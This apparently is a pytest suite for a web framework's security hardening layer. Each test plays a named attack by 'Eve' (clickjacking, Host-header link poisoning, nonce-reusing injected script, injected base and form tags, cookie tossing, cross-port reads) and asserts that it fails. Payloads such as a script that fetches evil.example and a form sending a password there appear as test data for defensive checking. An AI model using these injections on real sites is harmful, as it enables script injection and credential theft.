"""Eve has a site of her own, a port on our host, and a line in our guest book."""

import re

import pytest
from step21_hardening import App, render_template_string, session, url_for
from step21_hardening.security import Hardening

BOOK = """
<title>Guests</title>
<p>{{ name|safe }}</p>
<script nonce="{{ csp_nonce() }}">ring()</script>
"""


@pytest.fixture
def app():
    app = App("wren")
    app.secret_key = "a key that nobody else knows"
    app.config["TRUSTED_HOSTS"] = ["wren.example"]
    Hardening(app)
    return app


def policy_of(response):
    """Return the directives of a response's policies, as a browser reads them."""
    policy = response.headers.get("Content-Security-Policy", "")
    parts = [part.split() for part in policy.split(";") if part.strip()]
    return {name.lower(): sources for name, *sources in parts}


def may_frame(response, origin):
    """Return whether a browser shows a response in a frame of another site's page."""
    ancestors = policy_of(response).get("frame-ancestors")
    if ancestors is not None:
        return origin in ancestors or "*" in ancestors
    # anything else in it is ignored, such as ALLOW-FROM
    options = response.headers.get("X-Frame-Options", "").strip().upper()
    return options not in ("DENY", "SAMEORIGIN")


def runs(response, nonce=None):
    """Return whether a browser runs an inline script that is in a response."""
    policy = policy_of(response)
    sources = policy.get("script-src", policy.get("default-src"))
    if sources is None:
        return True
    trusting = [source for source in sources if source.startswith("'nonce-")]
    if "'unsafe-inline'" in sources and not trusting:
        return True
    return f"'nonce-{nonce}'" in trusting


@pytest.mark.attack
def test_page_is_framed_and_the_visitor_clicks_on_what_she_can_not_see(app):
    app.add_url_rule("/", "index", lambda: "<form method=post><button>Sign up</button>")

    response = app.test_client().get("/", base_url="https://wren.example")

    framed = may_frame(response, "https://evil.example")
    assert not framed, "the attack worked: evil.example may frame the sign-up form"


@pytest.mark.attack
def test_link_to_the_attacker_s_host_is_made(app):
    host = "evilwren.example"
    app.add_url_rule("/songs", "songs", lambda: url_for("songs", _external=True))
    headers = {"Host": host}
    client = app.test_client()

    answer = client.get("/songs", base_url="https://wren.example", headers=headers)

    assert host not in answer.text or answer.status_code == 400, (
        f"the attack worked: we sent a link to {host}: {answer.text}"
    )


@pytest.mark.attack
def test_injected_script_has_the_nonce_that_eve_saw(app):
    book = {"name": "Ada"}
    app.add_url_rule("/", "index", lambda: render_template_string(BOOK, **book))
    client = app.test_client()
    seen = client.get("/", base_url="https://wren.example").text
    nonce = re.search('nonce="(.*?)"', seen)[1]
    book["name"] = f"<script nonce={nonce}>fetch('//evil.example')</script>"

    response = client.get("/", base_url="https://wren.example")

    assert not runs(response, nonce), (
        "the attack worked: the page runs Eve's script, because it has the nonce"
    )


@pytest.mark.attack
def test_injected_base_sends_the_browser_elsewhere_for_our_scripts(app):
    name = "<base href=https://evil.example/>"
    app.add_url_rule("/", "index", lambda: render_template_string(BOOK, name=name))

    response = app.test_client().get("/", base_url="https://wren.example")

    # unlike other directives, it doesn't fall back on `default-src`
    base = policy_of(response).get("base-uri", ["*"])
    assert base == ["'none'"], (
        "the attack worked: our relative links lead to evil.example"
    )


@pytest.mark.attack
def test_injected_form_sends_what_the_visitor_types_elsewhere(app):
    name = "<form action=https://evil.example/><input name=password>"
    app.add_url_rule("/", "index", lambda: render_template_string(BOOK, name=name))

    response = app.test_client().get("/", base_url="https://wren.example")

    # it doesn't either
    targets = policy_of(response).get("form-action", ["*"])
    assert targets == ["'self'"], "the attack worked: the form leads to evil.example"


@pytest.mark.attack
def test_neighbor_tosses_a_cookie(app):
    app.add_url_rule("/in", "enter", lambda: str(session.setdefault("name", "Eve")))
    app.add_url_rule("/", "index", lambda: session.get("name", "nobody"))
    eve, ada = app.test_client(), app.test_client(use_cookies=False)
    own = eve.get("/in", base_url="https://wren.example").headers["Set-Cookie"]
    name, _, value = own.partition(";")[0].partition("=")
    if name.startswith("__Host-"):
        # browsers don't let evil.wren.example set it for wren.example
        name = name.removeprefix("__Host-")

    headers = {"Cookie": f"{name}={value}"}
    answer = ada.get("/", base_url="https://wren.example", headers=headers)

    assert answer.text != "Eve", "the attack worked: Ada works in Eve's session"


@pytest.mark.attack
def test_page_at_another_port_loads_what_only_the_visitor_may_see(app):
    app.add_url_rule("/guests", "guests", lambda: {"guests": ["ada@bell.example"]})
    # two ports of one host are one site, so even strict cookies come along
    headers = {"Sec-Fetch-Site": "same-site", "Sec-Fetch-Mode": "no-cors"}
    headers["Sec-Fetch-Dest"] = "script"
    client = app.test_client()

    answer = client.get("/guests", base_url="https://wren.example", headers=headers)

    assert "ada@" not in answer.text, "the attack worked: Eve's page got the guests"
